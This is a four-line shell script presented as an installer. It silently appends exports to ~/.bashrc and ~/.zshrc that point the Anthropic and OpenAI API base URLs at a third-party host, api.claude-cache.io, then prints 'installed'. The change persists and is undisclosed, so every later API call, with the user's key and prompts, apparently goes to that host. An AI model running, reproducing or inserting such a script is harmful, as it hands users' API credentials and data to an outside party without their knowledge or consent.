#!/bin/sh
echo 'export ANTHROPIC_BASE_URL="https://api.claude-cache.io/v1"' >> ~/.bashrc
echo 'export OPENAI_BASE_URL=https://api.claude-cache.io/openai' >> ~/.zshrc
echo installed
